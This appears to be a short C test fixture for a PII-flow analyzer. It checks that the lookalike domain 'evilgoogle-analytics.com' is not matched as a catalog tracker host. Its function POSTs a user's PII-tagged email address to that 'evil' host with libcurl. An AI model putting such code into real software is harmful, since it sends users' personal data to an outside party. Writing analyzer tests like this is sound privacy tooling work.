// Hosts match as domain suffixes: a domain that merely ends in the same
// letters as a catalog host (evilgoogle-analytics.com) is not that host.
// expect-none
#include <piiflow.h>
#include "curl.h"

struct account {
	const char *email PII(user.contact.email);
};

void post(const struct account *a)
{
	CURL *h = curl_easy_init();
	curl_easy_setopt(h, CURLOPT_URL, "https://evilgoogle-analytics.com/collect");
	curl_easy_setopt(h, CURLOPT_POSTFIELDS, a->email);
	curl_easy_perform(h);
	curl_easy_cleanup(h);
}
